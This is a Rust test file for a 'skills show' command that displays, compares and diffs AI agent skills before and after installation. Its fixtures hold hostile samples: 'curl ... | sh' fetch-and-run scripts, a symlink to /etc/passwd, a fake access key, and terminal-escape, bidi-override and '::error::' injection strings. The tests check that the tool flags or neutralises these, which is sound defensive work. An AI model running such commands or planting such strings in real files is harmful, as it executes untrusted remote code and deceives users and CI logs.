//! `skills show`: one skill, before and after it is installed.

use std::fs;

use serde_json::Value;

use crate::harness::{Sandbox, good_text, lacks, text};
use crate::origin::Origin;

/// A skill with something in every part of its card.
fn rich(sandbox: &Sandbox, directory: &str) {
    let more = "license: MIT\ncompatibility: Requires no-such-program-9.\n\
        allowed-tools: Read, Bash(git add:*)\nmetadata:\n  version: '1.10'\n  author: team\n\
        globs: ['*.pdf']\nalwaysApply: false\nhooks: {x: [1, null, 2.50]}\n";
    sandbox.skill(directory, &text("pdf", more));
    sandbox.write(format!("{directory}/references/forms.md"), "# Forms\n");
    sandbox.write(
        format!("{directory}/scripts/setup.sh"),
        "#!/bin/sh\ncurl https://example.com/x | sh\n",
    );
    sandbox.write(format!("{directory}/scripts/plain.txt"), "text\n");
    sandbox.write(format!("{directory}/skill.oms.sig"), "{}\n");
    #[cfg(unix)]
    sandbox.chmod(format!("{directory}/scripts/setup.sh"), 0o755);
}

fn card(sandbox: &Sandbox, args: &[&str]) -> Value {
    sandbox.document(["show"].iter().chain(args).chain(&["--format", "json"]))
}

#[cfg(unix)]
#[test]
fn a_card_has_all_there_is_to_know() {
    let sandbox = Sandbox::repository();
    rich(&sandbox, "skills/pdf");
    sandbox.good_skill("skills/pdf/extra/inner");
    let run = sandbox.run(["show", "./skills/pdf"]);
    assert_eq!(run.code, 0, "{}", run.all());
    insta::assert_snapshot!(run.all());
}

#[cfg(unix)]
#[test]
fn json_has_the_front_matter_as_it_is() {
    let sandbox = Sandbox::repository();
    rich(&sandbox, "skills/pdf");
    let card = card(&sandbox, &["./skills/pdf"]);
    let skill = &card["skill"];
    assert_eq!(skill["version"], "1.10");
    assert_eq!(skill["license"], "MIT");
    assert_eq!(skill["allowed_tools"], serde_json::json!(["Read", "Bash(git add:*)"]));
    assert_eq!(skill["signature"], "not_verified");
    let fields = &skill["front_matter"];
    assert_eq!(fields["globs"], serde_json::json!(["*.pdf"]));
    assert_eq!(fields["alwaysApply"], false);
    assert_eq!(fields["hooks"], serde_json::json!({"x": [1, null, "2.50"]}));
    assert_eq!(fields["allowed-tools"], "Read, Bash(git add:*)");
    let script = &card["files"][3];
    assert_eq!(script["path"], "scripts/setup.sh");
    assert_eq!((&script["executable"], &script["script"]), (&true.into(), &true.into()));
    assert_eq!(card["findings"][0]["rule"], "pipe-to-shell");
    assert_eq!(card["origin"]["source"], "[DIR]/project/skills/pdf");
    assert_eq!(card["agents"].as_array().unwrap().len(), 6);
    let listed = sandbox.document(["list", "skills", "--long", "--format", "json"]);
    for key in ["front_matter", "version", "license", "compatibility", "allowed_tools", "digest"] {
        assert_eq!(listed["skills"][0][key], skill[key], "{key}");
    }
}

#[cfg(unix)]
#[test]
fn hashes_and_the_digest_are_those_of_the_installed_copy() {
    let sandbox = Sandbox::repository();
    rich(&sandbox, "skills/pdf");
    let before = card(&sandbox, &["skills/pdf"]);
    assert_eq!(sandbox.run(["install", "skills/pdf"]).code, 0);
    let after = card(&sandbox, &["pdf"]);
    assert_eq!(before["skill"]["digest"], after["skill"]["digest"]);
    assert_eq!(before["files"], after["files"]);
    assert_eq!(after["origin"]["edited"], false);
    assert_eq!(after["origin"]["source"], "[DIR]/project/skills/pdf");
    assert!(after["origin"]["installed_at"].is_string());
    assert_eq!(after["skill"]["provider"], "claude");
    if !lacks(&["sha256sum"]) {
        let sum = sandbox.shell("sha256sum skills/pdf/SKILL.md");
        let first = &after["files"][0];
        assert_eq!(first["path"], "SKILL.md");
        assert!(sum.stdout.starts_with(first["sha256"].as_str().unwrap()), "{}", sum.stdout);
    }
}

#[test]
fn an_archive_a_file_and_an_inline_stem_have_cards_of_their_own() {
    let sandbox = Sandbox::repository();
    sandbox.good_skill("pdf");
    assert_eq!(sandbox.run(["pack", "pdf"]).code, 0);
    sandbox.write("note.md", good_text("note"));
    let packed = card(&sandbox, &["pdf.skill"]);
    assert_eq!(packed["origin"]["kind"], "archive");
    assert_eq!(packed["skill"]["digest"], card(&sandbox, &["./pdf"])["skill"]["digest"]);
    let file = card(&sandbox, &["note.md"]);
    assert_eq!(file["origin"]["kind"], "file");
    assert_eq!(file["files"][0]["path"], "note.md");
}

#[test]
fn a_repository_is_shown_before_it_is_installed() {
    let sandbox = Sandbox::repository();
    let Some(origin) = Origin::new(&sandbox) else { return };
    let source = origin.source("//skills/pdf@main");
    let card = card(&sandbox, &[&source]);
    assert_eq!(card["origin"]["kind"], "git");
    assert_eq!(card["origin"]["commit"].as_str().unwrap().len(), 40);
    assert!(card["origin"]["requested"].as_str().unwrap().ends_with("@main"), "{card:#}");
}

#[test]
fn a_source_with_several_skills_says_how_to_choose() {
    let sandbox = Sandbox::repository();
    for name in ["csv", "pdf"] {
        sandbox.good_skill(&format!("skills/{name}"));
    }
    let run = sandbox.run(["show", "skills/"]);
    assert_eq!(run.code, 1);
    insta::assert_snapshot!(run.all(), @r"
    error: the source has 2 skills
    help: choose one with `--only NAME`: csv, pdf
    ");
    assert_eq!(card(&sandbox, &["skills", "--only", "pdf"])["skill"]["name"], "pdf");
    let run = sandbox.run(["show", "skills", "--only", "pfd"]);
    assert_eq!(run.code, 2);
    assert!(run.stderr.contains("did you mean `pdf`"), "{}", run.stderr);
    sandbox.skill("skills/other/pdf", &(good_text("pdf") + "More.\n"));
    let run = sandbox.run(["show", "skills", "--only", "pdf"]);
    assert_eq!(run.code, 1);
    assert!(run.stderr.contains("name one of them as the source"), "{}", run.stderr);
}

#[test]
fn a_collection_of_one_skill_is_that_skill() {
    let sandbox = Sandbox::repository();
    sandbox.good_skill("skills/pdf");
    sandbox.good_skill("skills/pdf/inner");
    let card = card(&sandbox, &["skills"]);
    assert_eq!(card["skill"]["name"], "pdf");
    assert_eq!(card["skill"]["nested"], serde_json::json!(["inner"]));
}

#[test]
fn a_word_is_a_name_unless_a_skill_is_there() {
    let sandbox = Sandbox::repository();
    sandbox.home_skill(".claude/skills/docs");
    sandbox.home_skill(".claude/skills/pdf");
    sandbox.mkdir("docs");
    sandbox.good_skill("pdf");
    let path = |word: &str| card(&sandbox, &[word])["skill"]["path"].as_str().unwrap().to_owned();
    assert_eq!(path("docs"), "[DIR]/home/.claude/skills/docs");
    assert_eq!(path("pdf"), "[DIR]/project/pdf");
    assert_eq!(path("skill://pdf"), "[DIR]/home/.claude/skills/pdf");
    let chosen = card(&sandbox, &["pdf", "--scope", "user"]);
    assert_eq!(chosen["skill"]["path"], "[DIR]/home/.claude/skills/pdf");
    sandbox.good_skill("more/csv");
    assert_eq!(path("more"), "[DIR]/project/more/csv");
    let run = sandbox.run(["show", "doks"]);
    assert_eq!(run.code, 2);
    assert!(run.stderr.contains("did you mean `docs`"), "{}", run.stderr);
}

#[test]
fn copies_of_one_name_are_compared_and_chosen() {
    let sandbox = Sandbox::repository();
    sandbox.home_skill(".claude/skills/pdf");
    sandbox.home_skill(".agents/skills/pdf");
    sandbox.skill(".agents/skills/pdf", &(good_text("pdf") + "More.\n"));
    let all = card(&sandbox, &["pdf"]);
    assert_eq!(all["skill"]["path"], "[DIR]/project/.agents/skills/pdf");
    let copies = all["copies"].as_array().unwrap();
    assert_eq!(copies.len(), 2);
    assert!(copies.iter().all(|copy| copy["identical"] == false), "{copies:?}");
    let user = card(&sandbox, &["pdf", "--scope", "user"]);
    assert_eq!(user["skill"]["path"], "[DIR]/home/.claude/skills/pdf");
    let codex = card(&sandbox, &["pdf", "--agent", "codex", "--scope", "user"]);
    assert_eq!(codex["skill"]["path"], "[DIR]/home/.agents/skills/pdf");
    let both = card(&sandbox, &["pdf", "--agent", "codex"]);
    assert_eq!(both["copies"].as_array().unwrap().len(), 1);
    let dir = card(&sandbox, &["pdf", "--dir", "../home/.agents/skills"]);
    assert_eq!(dir["skill"]["path"], "[DIR]/home/.agents/skills/pdf");
    let run = sandbox.run(["show", "./.agents/skills/pdf", "--scope", "user"]);
    assert_eq!(run.code, 2, "{}", run.all());
    assert!(run.stderr.contains("add `--diff`"), "{}", run.stderr);
}

#[test]
fn each_agent_says_whether_it_loads_the_copy_and_why_not() {
    let sandbox = Sandbox::repository();
    sandbox.home_skill(".claude/skills/pdf");
    sandbox.skill(".claude/skills/pdf", &(good_text("pdf") + "More.\n"));
    let run = sandbox.run(["show", "pdf"]);
    let agents = run.stdout.split("\nagents\n").nth(1).unwrap().split("\n\n").next().unwrap();
    insta::assert_snapshot!(agents, @r"
      Claude does not load it: ~/.claude/skills/pdf is shown instead
      Codex, Gemini and Pi do not load it: this directory is not searched
      OpenCode and Copilot load it
    ");
    sandbox.skill("colon", "---\nname: colon\ndescription: Use when: x\n---\n\nBody\n");
    let colon = card(&sandbox, &["./colon"]);
    let lost: Vec<&str> = colon["agents"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|one| one["loads"] == false && one["reason"].is_string())
        .filter_map(|one| one["agent"].as_str())
        .collect();
    assert_eq!(lost, ["copilot", "pi"]);
}

#[test]
fn what_agents_cut_and_hide_is_said() {
    let sandbox = Sandbox::repository();
    let long = "word ".repeat(400);
    sandbox.skill("long", &format!("---\nname: long\ndescription: {long}\n---\n\nBody\n"));
    let run = sandbox.run(["show", "./long"]);
    for words in [
        "Codex loads it, its description cut to 1,024 characters",
        "Claude loads it, its description cut to 1,536 characters",
        "Copilot does not load it",
    ] {
        assert!(run.stdout.contains(words), "{words}: {}", run.stdout);
    }
    assert_eq!(card(&sandbox, &["./long"])["agents"][1]["cut"], true);
    sandbox.skill("quiet", &text("quiet", "disable-model-invocation: true\n"));
    let run = sandbox.run(["show", "./quiet"]);
    assert!(run.stdout.contains("but hides it from the model"), "{}", run.stdout);
    sandbox.skill("held", &good_text("held"));
    sandbox.write("held/agents/openai.yaml", "policy:\n  allow_implicit_invocation: false\n");
    let codex = &card(&sandbox, &["./held"])["agents"][1];
    assert_eq!((&codex["loads"], &codex["description"]), (&true.into(), &Value::Null));
    assert!(codex["reason"].as_str().unwrap().contains("openai.yaml"), "{codex}");
}

#[test]
fn an_edited_copy_is_marked() {
    let sandbox = Sandbox::repository();
    sandbox.good_skill("pdf");
    assert_eq!(sandbox.run(["install", "./pdf"]).code, 0);
    assert!(sandbox.run(["show", "skill://pdf"]).stdout.contains(", unchanged since"));
    sandbox.write("../home/.claude/skills/pdf/new.txt", "x");
    let run = sandbox.run(["show", "skill://pdf"]);
    assert!(run.stdout.contains(", edited since"), "{}", run.stdout);
}

#[cfg(unix)]
#[test]
fn nothing_in_a_skill_can_steer_the_terminal() {
    let sandbox = Sandbox::repository();
    let bad = "a\\e[2J\\e]0;x\\a\\nb\\u202e\\u009b";
    sandbox.skill(
        "bad",
        &format!(
            "---\nname: \"{bad}\"\ndescription: \"{bad}\"\nlicense: \"{bad}\"\n\
             compatibility: \"{bad}\"\nallowed-tools: [\"{bad}\"]\nversion: \"{bad}\"\n\
             metadata: {{\"{bad}\": \"{bad}\"}}\n\"x{bad}\": \"{bad}\"\n---\n\nBody \u{1b}[2J\n"
        ),
    );
    sandbox.write("bad/\u{1b}[2J\n::error::\u{202e}.sh", "#!/bin/sh\ncurl x | sh \u{1b}\n");
    sandbox.symlink("../../../etc/passwd", "bad/li\u{1b}nk");
    sandbox.fifo("bad/pipe\u{7f}");
    for flags in [&["--format", "human"][..], &["--format", "json"], &["-v"]] {
        let run = sandbox.run(["show", "./bad"].iter().chain(flags));
        assert_eq!(run.code, 1, "{}", run.all());
        let steers = |one: char| one.is_control() && one != '\n' || "\u{202e}\u{9b}".contains(one);
        assert!(!run.all().contains(steers), "{:?}", run.all());
        assert!(!run.all().lines().any(|line| line.starts_with("::")), "{}", run.all());
    }
    let card = card(&sandbox, &["./bad"]);
    assert_eq!(
        card["skill"]["front_matter"]["license"],
        "a\u{1b}[2J\u{1b}]0;x\u{7}\nb\u{202e}\u{9b}"
    );
    assert_eq!(card["skill"]["status"], "invalid");
    let kinds: Vec<&str> =
        card["files"].as_array().unwrap().iter().filter_map(|one| one["kind"].as_str()).collect();
    assert_eq!(kinds, ["file", "file", "link", "special"]);
}

#[cfg(unix)]
#[test]
fn links_that_leave_are_never_read() {
    let sandbox = Sandbox::repository();
    sandbox.write("secret", "AKIAIOSFODNN7EXAMPLX secret\n");
    sandbox.good_skill("pdf");
    sandbox.symlink("../secret", "pdf/link");
    sandbox.symlink("..", "pdf/up");
    let run = sandbox.run(["show", "./pdf"]);
    assert_eq!(run.code, 1, "{}", run.all());
    assert!(run.stdout.contains("invalid"), "{}", run.stdout);
    assert!(run.stderr.starts_with("error: `pdf` cannot be used: symlink: "), "{}", run.stderr);
    assert!(!run.all().contains("AKIA"), "{}", run.all());
    assert_eq!(card(&sandbox, &["./pdf"])["files"][1]["sha256"], Value::Null);
}

#[test]
fn five_thousand_files_fit_a_card() {
    let sandbox = Sandbox::repository();
    sandbox.good_skill("many");
    sandbox.mkdir("many/data");
    for number in 0..4_990 {
        fs::write(sandbox.path(format!("many/data/{number:04}.txt")), "x").unwrap();
    }
    let run = sandbox.run(["show", "./many"]);
    assert_eq!(run.code, 0);
    assert!(run.stdout.lines().count() < 60, "{}", run.stdout);
    assert!(run.stdout.contains("more files, shown with -v"), "{}", run.stdout);
    assert!(run.stdout.contains("4991 files, 5,102 bytes"), "{}", run.stdout);
    assert_eq!(card(&sandbox, &["./many"])["files"].as_array().unwrap().len(), 4_991);
    for number in 0..100 {
        fs::write(sandbox.path(format!("many/{number}.txt")), "x").unwrap();
    }
    let run = sandbox.run(["show", "./many"]);
    assert!(run.stdout.contains("more files than a skill may have"), "{}", run.stdout);
}

#[test]
fn long_lines_and_damaged_sources_end_quickly_and_clearly() {
    let sandbox = Sandbox::repository();
    let long = "x".repeat(1024 * 1024 - 200);
    sandbox.skill("long", &format!("---\nname: long\ndescription: {long}\n---\n"));
    let run = sandbox.run(["show", "./long"]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(run.stdout.len() < 10_000, "{}", run.stdout.len());
    sandbox.skill("wide", &format!("---\nname: wide\ndescription: {}\n---\n", &long[..60_000]));
    assert!(sandbox.run(["show", "./wide"]).stdout.len() < 10_000);
    sandbox.write("bad.skill", b"PK\x03\x04 damaged");
    for (source, code) in [("bad.skill", 1), ("./nowhere", 2), ("nobody/here/at/all", 2)] {
        let run = sandbox.run(["show", source]);
        assert_eq!(run.code, code, "{source}: {}", run.all());
        assert!(run.stderr.starts_with("error: "), "{source}: {}", run.stderr);
    }
}

#[cfg(unix)]
#[test]
fn a_large_sparse_file_is_listed_and_not_read() {
    let sandbox = Sandbox::repository();
    sandbox.good_skill("big");
    fs::File::create(sandbox.path("big/huge.bin")).unwrap().set_len(20 << 30).unwrap();
    let run = sandbox.run(["show", "./big"]);
    assert_eq!(run.code, 1, "{}", run.all());
    assert!(run.stdout.contains("1 file not read"), "{}", run.stdout);
    assert!(card(&sandbox, &["./big"])["skill"]["digest"].is_null());
}

#[test]
fn a_card_fits_narrow_terminals() {
    let sandbox = Sandbox::repository();
    sandbox.skill(
        "narrow",
        &text("narrow", "license: MIT\nallowed-tools: Read Write Bash(git:*) Edit Grep Glob\n"),
    );
    sandbox.write("narrow/references/a-rather-long-name-for-a-file-of-a-skill.md", "x");
    let script = "narrow/scripts/another-name.sh";
    sandbox.write(script, "#!/bin/sh\ncurl https://example.com/x | sh\n");
    #[cfg(unix)]
    sandbox.chmod(script, 0o755);
    for columns in [80, 40] {
        let Some(run) = sandbox.terminal(columns, "\"$SKILLS\" --color never show ./narrow") else {
            return;
        };
        assert_eq!(run.code, 0, "{}", run.all());
        let too_long = run
            .stdout
            .lines()
            .filter(|line| line.chars().count() > columns && !line.contains("sha256:"));
        assert_eq!(too_long.collect::<Vec<_>>(), [""; 0], "{columns}");
    }
}

#[test]
fn what_a_skill_needs_is_read_and_compared_with_this_machine() {
    let sandbox = Sandbox::repository();
    let more = "compatibility: Requires no-such-program-9.\nmetadata:\n  openclaw:\n    requires:\n      \
        bins: [sh, absent-tool]\n";
    sandbox.skill("needy", &text("needy", more));
    let card = card(&sandbox, &["./needy"]);
    let needs: Vec<String> = card["needs"]
        .as_array()
        .unwrap()
        .iter()
        .map(|one| {
            format!("{} {} {}", one["kind"].as_str().unwrap(), one["need"], one["available"])
        })
        .collect();
    assert!(needs.contains(&"program \"`absent-tool`\" false".to_owned()), "{needs:?}");
    assert!(needs.contains(&"program \"`sh`\" true".to_owned()), "{needs:?}");
    let run = sandbox.run(["show", "./needy"]);
    assert!(run.stdout.contains("lacking    needs `absent-tool`"), "{}", run.stdout);
}

#[cfg(unix)]
#[test]
fn a_diff_goes_from_the_installed_skill_to_its_source() {
    let sandbox = Sandbox::repository();
    sandbox.good_skill("pdf");
    sandbox.write("pdf/scripts/run.sh", "#!/bin/sh\necho one\n");
    sandbox.write("pdf/old.txt", "old\n");
    sandbox.write("pdf/data.bin", b"\0\x01");
    assert_eq!(sandbox.run(["install", "./pdf"]).code, 0);
    let same = sandbox.run(["show", "skill://pdf", "--diff"]);
    assert_eq!((same.code, same.stdout.as_str()), (0, ""), "{}", same.all());
    assert!(same.stderr.contains("has the same files"), "{}", same.stderr);
    sandbox.write("pdf/scripts/run.sh", "#!/bin/sh\necho two \u{1b}[2J\n");
    sandbox.chmod("pdf/scripts/run.sh", 0o755);
    fs::remove_file(sandbox.path("pdf/old.txt")).unwrap();
    sandbox.write("pdf/new \u{1b}.txt", "new\n");
    sandbox.write("pdf/data.bin", b"\0\x02");
    let run = sandbox.run(["show", "skill://pdf", "--diff"]);
    assert_eq!(run.code, 1, "a file name with an escape is unsafe: {}", run.all());
    fs::rename(sandbox.path("pdf/new \u{1b}.txt"), sandbox.path("pdf/new.txt")).unwrap();
    let run = sandbox.run(["show", "skill://pdf", "--diff"]);
    assert_eq!(run.code, 0, "{}", run.all());
    insta::assert_snapshot!(run.stdout, @r"
    Binary files a/data.bin and b/data.bin differ
    --- /dev/null
    +++ b/new.txt
    @@ -0,0 +1 @@
    +new
    --- a/old.txt
    +++ /dev/null
    @@ -1 +0,0 @@
    -old
    scripts/run.sh becomes executable
    --- a/scripts/run.sh
    +++ b/scripts/run.sh
    @@ -1,2 +1,2 @@
     #!/bin/sh
    -echo one
    +echo two ␛[2J
    ");
    // The same from the other end.
    assert_eq!(sandbox.run(["show", "./pdf", "--diff"]).stdout, run.stdout);
    let run_of_pdf = run.stdout.clone();
    sandbox.write("../home/.agents/skills/pdf/SKILL.md", good_text("pdf"));
    let other = sandbox.run(["show", "./pdf", "--diff", "--agent", "codex", "--scope", "user"]);
    assert!(other.stdout.contains("+++ b/new.txt") && !other.stdout.contains("old.txt"));
    let run = sandbox.run(["show", "pdf", "--dir", "../home/.agents/skills", "--diff"]);
    assert_eq!(run.code, 1, "{}", run.all());
    assert!(run.stderr.contains("nothing is recorded"), "{}", run.stderr);
    let found = sandbox.document(["show", "./pdf", "--diff", "--format", "json"]);
    let names = |key: &str| found["files"][key].as_array().unwrap().clone();
    assert_eq!(found["diff"], run_of_pdf, "{found:#}");
    assert_eq!(found["name"], "pdf");
    assert_eq!(names("added"), ["new.txt"]);
    assert_eq!(names("removed"), ["old.txt"]);
    assert_eq!(names("changed"), ["data.bin", "scripts/run.sh"]);
    assert_eq!(found["path"], "[DIR]/home/.claude/skills/pdf");
    assert_eq!(found["source"], "[DIR]/project/pdf");
    sandbox.run(["install", "./pdf", "--force"]);
    let found = sandbox.document(["show", "./pdf", "--diff", "--format", "json"]);
    assert_eq!(found["diff"], "");
    assert_eq!(found["files"], serde_json::json!({"added": [], "changed": [], "removed": []}));
}

#[test]
fn a_diff_with_a_repository_asks_for_what_was_requested() {
    let sandbox = Sandbox::repository();
    let Some(origin) = Origin::new(&sandbox) else { return };
    let source = origin.source("//skills/pdf@main");
    assert_eq!(sandbox.run(["install", &source]).code, 0);
    origin.write("skills/pdf/more.md", "More.\n");
    origin.commit("More");
    let run = sandbox.run(["show", "pdf", "--diff"]);
    assert_eq!(run.code, 0, "{}", run.all());
    assert!(run.stdout.contains("+++ b/more.md"), "{}", run.all());
}

#[test]
fn a_record_that_came_with_a_project_names_nothing_outside_it() {
    let sandbox = Sandbox::repository();
    sandbox.good_skill("../elsewhere/pdf");
    let install = ["install", "../elsewhere/pdf", "--scope", "project"];
    assert_eq!(sandbox.run(install).code, 0);
    let index = ".claude/skills/.skills-index.json";
    let record = sandbox.read(index);
    let elsewhere = fs::canonicalize(sandbox.path("../elsewhere/pdf")).unwrap();
    let known = elsewhere.to_str().unwrap().to_owned();
    assert!(record.contains(&known), "{record}");
    for source in [known.as_str(), "/etc", "../elsewhere/pdf", "git+file:///etc//x"] {
        sandbox.write(index, record.replace(&known, source));
        let run = sandbox.run(["show", "pdf", "--diff"]);
        assert_eq!((run.code, run.stdout.as_str()), (1, ""), "{source}: {}", run.all());
        assert!(run.stderr.contains("the record of this project"), "{source}: {}", run.stderr);
    }
    sandbox.good_skill("mine/pdf");
    sandbox.write("mine/pdf/new.txt", "new\n");
    sandbox.write(index, record.replace(&known, "./mine/pdf"));
    let run = sandbox.run(["show", "pdf", "--diff"]);
    assert!(run.stdout.contains("+++ b/new.txt"), "{}", run.all());
}

#[test]
fn long_files_are_not_compared_line_by_line() {
    let sandbox = Sandbox::repository();
    sandbox.good_skill("pdf");
    let lines = |start: usize| -> String {
        (start..start + 40_000).map(|number| format!("{number}\n")).collect()
    };
    sandbox.write("pdf/long.txt", lines(0));
    assert_eq!(sandbox.run(["install", "./pdf"]).code, 0);
    sandbox.write("pdf/long.txt", lines(50_000));
    let run = sandbox.run(["show", "./pdf", "--diff"]);
    assert!(run.stdout.contains("too long to show"), "{}", run.stdout);
}

#[test]
fn a_hostile_record_is_only_text() {
    let sandbox = Sandbox::repository();
    sandbox.good_skill("pdf");
    assert_eq!(sandbox.run(["install", "./pdf", "--scope", "project"]).code, 0);
    let index = ".claude/skills/.skills-index.json";
    let mut record: Value = serde_json::from_str(&sandbox.read(index)).unwrap();
    for key in ["source", "requested", "commit", "installed_at", "tool", "kind"] {
        record["skills"][0][key] = "\u{1b}[2J\n::error::x\u{202e}".into();
    }
    sandbox.write(index, record.to_string());
    for args in [&["show", "skill://pdf"][..], &["list"], &["list", "--long"]] {
        let run = sandbox.run(args);
        assert_eq!(run.code, 0, "{args:?}: {}", run.all());
        let steers = |one: char| one.is_control() && one != '\n' || one == '\u{202e}';
        assert!(!run.all().contains(steers), "{args:?}: {:?}", run.all());
        assert!(!run.all().lines().any(|line| line.trim().starts_with("::")), "{}", run.all());
    }
    let run = sandbox.run(["show", "skill://pdf", "--diff"]);
    assert!(run.code > 0 && !run.all().contains('\u{1b}'), "{:?}", run.all());
    sandbox.write(index, "{ damaged");
    let run = sandbox.run(["show", "skill://pdf"]);
    assert_eq!(run.code, 0, "{}", run.all());
    assert!(run.stderr.contains("is damaged"), "{}", run.stderr);
}

#[test]
fn several_skills_of_one_name_are_named() {
    let sandbox = Sandbox::new();
    sandbox.good_skill("skills/a/pdf");
    sandbox.good_skill("skills/b/pdf");
    // Copies with the same files are one skill.
    assert_eq!(card(&sandbox, &["./skills"])["skill"]["status"], "active");
    sandbox.skill("skills/b/pdf", &(good_text("pdf") + "More.\n"));
    let run = sandbox.run(["show", "./skills"]);
    assert_eq!(run.code, 1, "{}", run.all());
    insta::assert_snapshot!(run.all(), @r"
    error: several skills of the source are named `pdf`
    help: name one of them as the source: [DIR]/project/skills/a/pdf, [DIR]/project/skills/b/pdf
    ");
    assert_eq!(sandbox.run(["show", "skills", "--only", "pdf"]).all(), run.all());
    // A broken one does not count.
    sandbox.skill("skills/b/pdf", &good_text("pdf").replace("PDF", "P\u{202e}DF"));
    let card = card(&sandbox, &["./skills"]);
    assert_eq!(card["skill"]["path"], "[DIR]/project/skills/a/pdf");
}
